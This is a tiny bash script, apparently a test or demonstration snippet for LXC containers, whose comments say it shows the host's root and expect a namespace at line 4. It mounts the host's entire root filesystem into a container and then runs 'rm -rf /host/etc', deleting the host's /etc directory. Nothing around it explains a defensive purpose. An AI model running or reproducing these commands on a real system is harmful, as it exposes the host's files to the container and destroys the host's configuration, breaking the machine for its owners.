#!/bin/bash
# shows: the host's root for a container of LXC
# expect: namespace at line 4
lxc config device add box disk disk source=/ path=/host
lxc exec box -- rm -rf /host/etc
